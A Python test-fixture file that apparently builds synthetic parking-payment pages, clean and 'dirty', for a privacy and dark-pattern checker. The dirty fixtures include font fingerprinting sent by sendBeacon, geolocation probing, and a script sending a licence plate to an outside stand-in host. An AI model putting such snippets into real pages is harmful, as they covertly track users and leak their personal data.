"""Families of pages at counters of many kinds: lanes, malls, hospitals, streets; and what is asked beside the fee.

Written before the rules were read on that day, and frozen before any page of the batch before was counted.
"""

from collections.abc import Iterator
from dataclasses import replace

from tests.selfcheck.zoo.animals import ALIPAY, WECHAT, Animal
from tests.selfcheck.zoo.unseen_styles import drawn
from tests.selfcheck.zoo.unseen_vendors import COVER, WINDOW, framed, popped
from tests.selfcheck.zoo.vendors import (
    H5_FEE,
    HEAD,
    SERVER_FEE,
    SPA_FEE,
    TARO_FEE,
    Site,
    h5,
    parts_page,
    server,
    spa,
    taro,
)

VENDOR_CASHIER = "https://qr.shouqianba.com/gateway?terminal_sn=1001&total_amount=800"


def split_plate(zh: str, *breaks: str, beside: str = "", after: str = "") -> Site:
    """Return a page with a list of provinces, a list of letters and a field for the rest, as town portals have."""
    options = "".join(f"<option>{c}" for c in "沪苏浙皖京津冀粤鄂湘川渝")
    letters = "".join(f"<option>{c}" for c in "ABCDEFGHJKLMNPQRSTUVWXYZ")
    whole = (
        HEAD
        + f"<title>城市停车</title></head><body><h1>望城区路侧停车缴费</h1><form method=post action='/road/query'><fieldset><legend>号牌</legend><select name=p aria-label=省份>{options}</select>"
        f"<select name=l aria-label=字母>{letters}</select><input name=n aria-label=序号 maxlength=6></fieldset>{beside}<button>查询欠费</button></form>"
        "<p>收费依据：望发改价〔2025〕31 号，小型车 2 元/30 分钟。收款：望城区财政非税专户。电话 12319。<a href='/privacy'>隐私声明</a></p></body></html>"
    )
    due = (
        HEAD
        + f"<title>账单</title></head><body><h2>停车费 8.00 元</h2><form method=post action='/pay'><button>缴款 8.00 元</button></form>{after}</body></html>"
    )
    none = HEAD + "<title>账单</title></head><body><h2>没有需要缴纳的停车费</h2></body></html>"
    return Site("", zh, breaks, whole=whole, due=due, none=none)


def clean() -> Iterator[tuple[str, list[Animal]]]:
    yield (
        "counters",
        [
            server("收钱吧收银台", pay=f"<meta http-equiv=refresh content='0;url={VENDOR_CASHIER}'><p>正在打开收银台</p>"),
            spa("拉卡拉收银台", pay="location.href='https://cashier.lakala.com/r/0000?amount=800'"),
            h5("支付宝手机网站支付", phones=ALIPAY, pay="location.href='https://openapi.alipay.com/gateway.do?method=alipay.trade.wap.pay'"),
            h5("键盘可收起", above="<p style='font-size:12px;color:#777'>点击方格输入，点“完成”收起键盘</p>"),
            taro("号牌类型选择", above="<taro-view-core><label><input type=radio name=t checked> 蓝牌</label> <label><input type=radio name=t> 绿牌</label> <label><input type=radio name=t> 黄牌</label></taro-view-core>"),
            spa("费用倒数刷新", fee=SPA_FEE + "<p>报价 <span id=sec>120</span> 秒内有效</p>", shown="const s=document.querySelector('#sec');if(s)setInterval(()=>{s.textContent=Math.max(0,s.textContent-1)},1000)"),
            spa("错误提示浮条", ask="document.body.insertAdjacentHTML('beforeend','<div role=status style=\"position:fixed;left:20%;right:20%;bottom:30%;background:#333;color:#fff;padding:10px;border-radius:8px\">查询中</div>');setTimeout(()=>document.querySelector('[role=status]').remove(),900)"),
            framed("内嵌柜台与页脚地图链接", outside="<p><a href='/map'>停车场平面图</a></p>", ),
            parts_page("确认对话框", fee="<dialog open><p>应缴 10.00 元，是否缴费？</p><button id=pay>缴费</button> <button onclick='this.parentNode.close()'>暂不</button></dialog>"),
            server("选支付方式", fee="<h2>8.00 元</h2><form method=post action='/pay'><select name=ch aria-label=支付方式><option>微信支付<option>支付宝<option>数字人民币</select> <button>付款</button></form>"),
            server("大字版", head="<style>body{font-size:24px}</style>", mid="<p><a href='?big=0'>标准字号</a></p>"),
            h5("夜间深色", head="<style>body,.card{background:#111!important;color:#eee}</style>"),
        ],
    )  # fmt: skip
    yield (
        "what honest lots show",
        [
            server("医院", name="第三人民医院停车场", mid="<p>住院患者家属凭陪护证到安保处办理优惠停放。急诊车辆先停后办。</p>"),
            server("车站", name="东站 P2 停车楼", mid="<p>接站请进 P2，限停 15 分钟免费。请勿在落客平台停留。</p>"),
            split_plate("路侧拆分号牌"),
            spa("景区预约说明", mid="<p style='font-size:13px'>停车不需要预约。节假日车位紧张，建议乘 K7 路公交。</p>"),
            h5("维护预告", top="<div style='background:#fff3cd;padding:8px 16px'>系统维护：11 月 30 日 2:00-3:00 暂停网上缴费，请到岗亭。</div>"),
            taro("无障碍车位", mid="<taro-view-core>无障碍车位在 B1 电梯旁，请把方便留给需要的人。</taro-view-core>"),
            server("申诉入口", fee=SERVER_FEE + "<p>对金额有异议？<a href='/appeal'>申请复核</a> 或致电管理中心</p>"),
            spa("退款说明", fee=SPA_FEE + "<p><a href='/refund'>重复付款怎么退</a></p>"),
            parts_page("包月到期提示", mid="<p>月卡到期的车辆按临停计费，续费请到管理处窗口。</p>"),
            framed("现金也可", outside="<p>岗亭收现金，找零。</p>"),
        ],
    )  # fmt: skip


def dirty() -> Iterator[tuple[str, list[Animal]]]:
    yield (
        "asked beside the fee",
        [
            split_plate("路侧要身份证", "P3", beside="<p><label>驾驶人证件号 <input name=idc maxlength=18></label></p>"),
            split_plate("路侧要车架号", "P3", beside="<p>车架号后六位 <input name=vin maxlength=6></p>"),
            parts_page("组件里的号码", "P3", above="<input type=tel aria-label=手机 placeholder=便于联系您>"),
            spa("短信码", "P3", above="<input class='i' placeholder='短信验证码' inputmode=numeric><button class=b type=button>获取验证码</button>"),
            h5("一键登录条", "P5a", top="<div style='background:#fff8e1;padding:10px 16px'>登录后自动带出爱车 <button>本机号一键登录</button></div>"),
            taro("静默取身份", "P3", script="fetch('/mp/api/visit',{method:'POST',body:JSON.stringify({openId:'oX9Zk2',unionId:'uQ11'})})"),
            h5("地址授权", "P4a", phones=WECHAT, due="wx.openAddress({success(){}})"),
            framed("框里默认同意", "P3", inside="<p><label><input type=checkbox name=agree checked> 同意接收优惠短信</label></p>"),
        ],
    )  # fmt: skip
    yield (
        "pushed beside the fee",
        [
            h5("图片海报浮层", "P5c", script=f"setTimeout(function(){{document.body.insertAdjacentHTML('beforeend','<div id=ps style=\"{COVER}\"><a href=\"/h/99\" style=\"{WINDOW}\"><img src=\"/poster.jpg\" width=260 height=360 alt=\"\"></a><i onclick=\"this.parentNode.remove()\" style=\"position:absolute;right:20px;top:60px;color:#fff\">×</i></div>')}},1200)"),
            spa("滑动时弹层", "P5c", above="<p style='height:1200px'>停车须知</p>", script="addEventListener('scroll',()=>{" + popped("加入车主圈，天天有福利", "马上加入", "下次") + "},{once:true})"),
            taro("支付被会员页截", "P5d", pay="document.getElementById('to').innerHTML='<taro-view-core>开卡后本单减 2 元</taro-view-core><taro-button-core>开卡支付</taro-button-core><taro-text-core style=\"font-size:10px;color:#ccc\">不了</taro-text-core>'"),
            server("旅游广告", "P12d", foot="<p><a href='https://trip.leisure-zoo.com/2026'>" + drawn("海岛五日游|2999 元起", 300, 120) + "</a></p>"),
            server("贷款软文", "P12d", mid="<p>手头紧？<a href='/loan'>车主专享额度最高 30 万</a></p>"),
            spa("猜你喜欢", "P12d", foot="<h3>附近吃喝</h3><ul><li>老灶火锅 双人餐 128 元<li>奶茶第二杯半价</ul>"),
            parts_page("不停车扣费", "P5a", mid="<p><a href='/auto'>开通先离场后付费，出场快人一步</a></p>"),
            h5("会员少付", "P12e", fee="<p>会员价 6.00 元　<s>非会员 8.00 元</s></p>" + H5_FEE),
            taro("平台服务费", "P12e", fee=TARO_FEE.replace("停车 2 小时内", "停车费 7.20 + 线上便捷费 0.80")),
            server("订阅消息", "P5a", phones=WECHAT, mid="<wx-open-subscribe template='t1'><script type='text/wxtag-template'><button>订阅停车提醒</button></script></wx-open-subscribe><p>请点上方按钮允许发送停车通知后再缴费</p>"),
            split_plate("账单页引关注", "P5a", after="<p>微信搜一搜“望城停车”，关注后可随时查账单</p>"),
            framed("外层横幅", "P12d", outside="<a href='/act/1111'>" + drawn("全城疯抢|家电直降 500", 320, 110) + "</a>"),
        ],
    )  # fmt: skip
    yield (
        "done behind",
        [
            spa("经纬度换车场", "P9a", script="navigator.permissions&&navigator.permissions.query({name:'geolocation'});navigator.geolocation.getCurrentPosition(()=>{},()=>{})"),
            h5("扫一扫权限", "P9a", phones=WECHAT, script="wx.scanQRCode({needResult:1})"),
            server("字体指纹", "P9b", script="var f=['Arial','SimSun','KaiTi','PingFang SC','Menlo','Courier','Georgia','Impact','Verdana','Tahoma','FangSong','STXihei','Monaco','Times','Helvetica','Didot','Futura','Optima','Palatino','Rockwell','Baskerville','Cochin','Copperplate','Papyrus','Bodoni','Garamond','Bookman','Candara','Cambria','Consolas','Corbel','Geneva','Lucida','Marker','Noteworthy','Savoye','Skia','Trattatello','Zapfino','Chalkduster','Comic Sans MS','Bradley','Luminari','Ayuthaya','Hoefler','Gill Sans','Franklin','Century','Calisto','Broadway','Arial Black','Perpetua','Segoe','Onyx'],c=document.createElement('canvas').getContext('2d'),o='';f.forEach(function(n){c.font='72px '+n;o+=c.measureText('mmmlli').width+','});navigator.sendBeacon('/s',o)"),
            taro("车牌拆两段外传", "P6", ask="var t=document.getElementById('ti').value;fetch('https://a.tollmap-zoo.com/1?x='+encodeURIComponent(t.slice(0,3)),{mode:'no-cors'});fetch('https://a.tollmap-zoo.com/2?x='+t.slice(3),{mode:'no-cors'})"),
            parts_page("库里存车牌", "P7a", due="indexedDB.open('cars').onupgradeneeded=e=>e.target.result.createObjectStore('c').put($('n').value,'last')"),
            spa("地址栏的车牌", "P8a", shown="if(v==='due')history.replaceState({},'','/p/7F3K/bill/'+S.plate)"),
            server("轨迹外泄", "P11b", fee=SERVER_FEE + "<p>本月第 4 次光临，上次 11-19</p>"),
            replace(h5("数据里的车主", "P11b"), due='{"fee":8,"ownerName":"王建国","mobile":"13800138000","inTime":"2026-11-27 08:12:44","berth":"B2-117"}'),
        ],
    )  # fmt: skip
